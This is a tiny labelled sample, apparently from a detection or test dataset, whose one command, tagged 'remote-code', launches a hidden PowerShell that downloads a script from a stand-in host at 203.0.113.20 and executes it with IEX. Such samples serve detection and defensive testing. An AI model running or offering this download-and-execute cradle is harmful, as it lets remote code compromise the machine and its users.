# description: Starts a hidden child PowerShell that runs a DownloadString cradle.
# family: remote-code
powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.20/a.ps1')"
